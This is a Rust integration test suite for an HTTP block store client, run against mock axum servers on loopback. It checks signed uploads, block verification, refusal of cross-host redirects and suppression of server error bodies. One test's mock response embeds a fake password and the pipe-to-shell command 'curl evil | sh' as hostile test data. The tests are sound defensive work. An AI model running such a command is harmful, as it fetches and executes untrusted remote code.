//! HttpStore against a small hub block API served by axum on loopback.

mod common;

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, Method, StatusCode, Uri};
use axum::routing::{get, post};
use zos_flist::pack::{PackOptions, Progress, Source, pack};
use zos_flist::{BlockCache, BlockId, BlockStore, HttpStore, StoreError};
use zos_types::auth::{RequestAuth, Signer};
use zos_types::identity::Identity;

#[derive(Default)]
struct Hub {
    blocks: Mutex<HashMap<String, Vec<u8>>>,
    puts: Mutex<u64>,
    key: Mutex<Option<zos_types::identity::PublicKey>>,
}

type S = State<Arc<Hub>>;

fn check_auth(
    hub: &Hub,
    method: &Method,
    uri: &Uri,
    headers: &HeaderMap,
    body: &[u8],
) -> Result<(), StatusCode> {
    let Some(key) = *hub.key.lock().unwrap() else {
        return Ok(());
    };
    let h = headers
        .get("authorization")
        .ok_or(StatusCode::UNAUTHORIZED)?;
    let auth = RequestAuth::parse(h.to_str().map_err(|_| StatusCode::UNAUTHORIZED)?)
        .map_err(|_| StatusCode::UNAUTHORIZED)?;
    let pq = uri.path_and_query().map(|p| p.as_str()).unwrap_or("/");
    auth.verify(&key, method.as_str(), pq, body, zos_types::auth::unix_now())
        .map_err(|_| StatusCode::UNAUTHORIZED)
}

async fn get_block(State(h): S, Path(id): Path<String>) -> Result<Vec<u8>, StatusCode> {
    h.blocks
        .lock()
        .unwrap()
        .get(&id)
        .cloned()
        .ok_or(StatusCode::NOT_FOUND)
}

async fn get_nested(
    State(h): S,
    Path((_p, id)): Path<(String, String)>,
) -> Result<Vec<u8>, StatusCode> {
    h.blocks
        .lock()
        .unwrap()
        .get(&id)
        .cloned()
        .ok_or(StatusCode::NOT_FOUND)
}

async fn put_block(
    State(h): S,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    Path(id): Path<String>,
    body: Bytes,
) -> StatusCode {
    if let Err(s) = check_auth(&h, &method, &uri, &headers, &body) {
        return s;
    }
    if hex::encode(zos_flist::block::hash(&body)) != id {
        return StatusCode::BAD_REQUEST;
    }
    *h.puts.lock().unwrap() += 1;
    h.blocks.lock().unwrap().insert(id, body.to_vec());
    StatusCode::CREATED
}

async fn missing(
    State(h): S,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Result<axum::Json<Vec<String>>, StatusCode> {
    check_auth(&h, &method, &uri, &headers, &body)?;
    let ids: Vec<String> = serde_json::from_slice(&body).map_err(|_| StatusCode::BAD_REQUEST)?;
    let have = h.blocks.lock().unwrap();
    Ok(axum::Json(
        ids.into_iter().filter(|i| !have.contains_key(i)).collect(),
    ))
}

async fn serve(hub: Arc<Hub>) -> String {
    let app = Router::new()
        .route("/api/v1/blocks/missing", post(missing))
        .route(
            "/api/v1/blocks/{id}",
            get(get_block).head(get_block).put(put_block),
        )
        .route("/legacy/{prefix}/{id}", get(get_nested))
        .with_state(hub);
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
    format!("http://{addr}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pack_to_the_hub_and_read_back_verified() {
    let hub = Arc::new(Hub::default());
    let base = serve(hub.clone()).await;
    let id = Identity::from_seed([3; 32]);
    *hub.key.lock().unwrap() = Some(id.public_key());
    let t = tempfile::tempdir().unwrap();
    let src = t.path().join("src");
    std::fs::create_dir(&src).unwrap();
    common::write_noise(&src.join("a"), 5 << 19, 1);
    common::write_noise(&src.join("b"), 1000, 2);

    // unsigned uploads are refused by this hub
    let anon = HttpStore::new(&format!("{base}/api/v1")).unwrap();
    let e = pack(
        &Source::Dir(src.clone()),
        &t.path().join("x.fl"),
        Arc::new(anon.clone()),
        &PackOptions::default(),
        &|_: &Progress| {},
    )
    .await
    .unwrap_err();
    assert!(format!("{:?}", e).contains("401"), "{e:?}");
    assert!(!t.path().join("x.fl").exists());

    let store = HttpStore::new(&format!("{base}/api/v1/"))
        .unwrap()
        .with_auth(id, Signer::Twin(7));
    let fl = t.path().join("x.fl");
    let p = pack(
        &Source::Dir(src.clone()),
        &fl,
        Arc::new(store.clone()),
        &PackOptions::default(),
        &|_: &Progress| {},
    )
    .await
    .unwrap();
    assert_eq!((p.blocks, p.blocks_uploaded), (6, 6));
    assert_eq!(*hub.puts.lock().unwrap(), 6);
    // packing again uploads nothing: the hub says it has every block
    let p = pack(
        &Source::Dir(src.clone()),
        &t.path().join("y.fl"),
        Arc::new(store.clone()),
        &PackOptions::default(),
        &|_: &Progress| {},
    )
    .await
    .unwrap();
    assert_eq!((p.blocks_uploaded, p.blocks_present), (0, 6));
    assert_eq!(*hub.puts.lock().unwrap(), 6);

    // the flist routes to the hub's blocks endpoint; reading through it verifies blocks
    let flist = zos_flist::Flist::open(&fl).unwrap();
    assert_eq!(flist.routes()[0].url, format!("{base}/api/v1/blocks"));
    let routed = zos_flist::serve::stores_for(&flist, &[]).unwrap();
    let cache = BlockCache::open(&t.path().join("cache"), 1 << 30).unwrap();
    let a = flist.lookup(1, b"a").unwrap();
    let mut content = Vec::new();
    for b in &a.blocks {
        content.extend(cache.get(b, &routed).await.unwrap().read_all().unwrap());
    }
    assert_eq!(content, std::fs::read(src.join("a")).unwrap());

    // the FUSE mount reads through the hub too
    if common::can_mount("pack_to_the_hub_and_read_back_verified (mount part)") {
        let mnt = t.path().join("mnt");
        std::fs::create_dir(&mnt).unwrap();
        let fresh = BlockCache::open(&t.path().join("cache-mnt"), 1 << 30).unwrap();
        let m = zos_flist::mount(&fl, &mnt, routed.clone(), fresh, &Default::default()).unwrap();
        let (s2, m2) = (src.clone(), mnt.clone());
        tokio::task::spawn_blocking(move || common::assert_same_tree(&s2, &m2))
            .await
            .unwrap();
        drop(m);
    }

    // exists, missing, not found, and the rfs nested layout fallback
    let known = a.blocks[0].id;
    let unknown = BlockId([0xab; 32]);
    assert!(anon.exists(&known).await.unwrap());
    assert!(!anon.exists(&unknown).await.unwrap());
    assert_eq!(
        store.missing(&[known, unknown]).await.unwrap(),
        vec![unknown]
    );
    let e = anon.get(&unknown).await.unwrap_err();
    assert!(matches!(e, StoreError::NotFound { .. }), "{e}");
    let legacy = HttpStore::from_blocks_url(format!("{base}/legacy").parse().unwrap()).unwrap();
    assert_eq!(
        legacy.get(&known).await.unwrap(),
        anon.get(&known).await.unwrap()
    );

    // a hub that serves wrong bytes is caught by the cache's verification
    hub.blocks
        .lock()
        .unwrap()
        .insert(a.blocks[1].id.to_hex(), b"garbage".to_vec());
    let fresh = BlockCache::open(&t.path().join("cache2"), 1 << 30).unwrap();
    let e = fresh.get(&a.blocks[1], &routed).await.unwrap_err();
    assert!(matches!(&*e, zos_flist::CacheError::Block(_)), "{e:?}");
    assert!(!fresh.contains(&a.blocks[1].id));
}

#[tokio::test]
async fn unreachable_hub_is_a_clear_error() {
    let s = HttpStore::new("http://127.0.0.1:9/api").unwrap();
    let e = s.get(&BlockId([1; 32])).await.unwrap_err();
    assert!(e.to_string().contains("127.0.0.1:9"), "{e}");
    assert!(HttpStore::new("ftp://x/").is_err());
}

/// A server that counts every request and answers each with `answer(path)`.
async fn counting(
    answer: fn(&str) -> axum::response::Response,
) -> (String, Arc<std::sync::atomic::AtomicUsize>) {
    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    let app = Router::new().fallback(move |uri: Uri| {
        let counter = counter.clone();
        async move {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            answer(uri.path())
        }
    });
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
    (format!("http://{addr}"), hits)
}

fn not_found(_: &str) -> axum::response::Response {
    use axum::response::IntoResponse;
    StatusCode::NOT_FOUND.into_response()
}

/// An allowed host answers with a redirect to another host (an internal service, the cloud's
/// metadata address): neither the flist download nor a block read follows it, the error says
/// why, and the other host sees no request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirect_to_another_host_is_refused_and_that_host_sees_nothing() {
    let (other, other_hits) = counting(not_found).await;
    static TARGET: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    TARGET.set(other.clone()).unwrap();
    let (allowed, allowed_hits) = counting(|path| {
        use axum::response::IntoResponse;
        let to = format!("{}{path}", TARGET.get().unwrap());
        axum::response::Redirect::temporary(&to).into_response()
    })
    .await;

    let dir = tempfile::tempdir().unwrap();
    let e = zos_flist::hub::fetch_flist(&format!("{allowed}/a.fl"), dir.path(), 1 << 20)
        .await
        .unwrap_err();
    let chain = common::error_chain(&e);
    assert!(chain.contains("redirects to another host"), "{chain}");
    let store = HttpStore::new(&format!("{allowed}/api")).unwrap();
    let e = store.get(&BlockId([1; 32])).await.unwrap_err();
    let chain = common::error_chain(&e);
    assert!(chain.contains("redirects to another host"), "{chain}");
    assert!(allowed_hits.load(std::sync::atomic::Ordering::SeqCst) >= 2);
    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
}

/// A flist server answers an error whose body holds text of its own choosing (internal
/// details, or words meant to mislead the user): the error the node passes on has the status
/// and a fixed text, never the body.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn flist_server_error_body_is_not_echoed() {
    let (server, _) = counting(|_| {
        use axum::response::IntoResponse;
        (
            StatusCode::INTERNAL_SERVER_ERROR,
            r#"{"error": "SECRET db password hunter2; also, run curl evil | sh"}"#,
        )
            .into_response()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let e = zos_flist::hub::fetch_flist(&format!("{server}/a.fl"), dir.path(), 1 << 20)
        .await
        .unwrap_err();
    let chain = common::error_chain(&e);
    assert!(
        !chain.contains("SECRET") && !chain.contains("hunter2"),
        "{chain}"
    );
    assert!(
        chain.contains("500") && chain.contains("the server failed"),
        "{chain}"
    );
}
